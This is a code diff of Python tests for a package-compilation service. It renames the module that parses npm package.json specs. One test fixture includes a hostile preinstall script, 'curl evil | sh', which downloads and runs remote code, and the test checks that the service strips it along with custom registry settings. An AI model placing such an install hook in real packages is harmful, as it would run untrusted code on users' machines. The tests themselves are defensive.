@@ -20,7 +20,7 @@ from test_api import assert_problem
 from test_auth import authed, client, empty_db, make_key  # noqa: F401  (fixtures)
 from test_packages import zipped
 
-from nimbus.compiler import layers
+from nimbus.compiler import layers, manifests
 from nimbus.errors import InvalidRequest
 
 pytestmark = pytest.mark.sandbox
@@ -133,7 +133,7 @@ def test_f2_a_lock_entry_resolved_outside_the_registry_is_refused(api):
 ])
 def test_f2_npm_specs_must_name_registry_packages(package, words):
     with pytest.raises(InvalidRequest) as info:
-        layers.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
+        manifests.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
     for word in words:
         assert word in str(info.value), str(info.value)
 
@@ -142,7 +142,7 @@ def test_f2_npm_sees_only_the_checked_fields_of_package_json():
     package = {"name": "app", "version": "1.0.0", "dependencies": {"ms": "^2.1.0", "lp": "npm:left-pad@1.3.0"},
                "devDependencies": {"is-number": "latest"}, "scripts": {"preinstall": "curl evil | sh"},
                "config": {"registry": "http://127.0.0.1:9/"}, "publishConfig": {"registry": "http://x/"}}
-    spec = layers.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
+    spec = manifests.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
     seen = json.loads(dict(spec.files)["package.json"])
     assert seen == {"name": "app", "version": "1.0.0", "dependencies": {"ms": "^2.1.0", "lp": "npm:left-pad@1.3.0"},
                     "devDependencies": {"is-number": "latest"}}
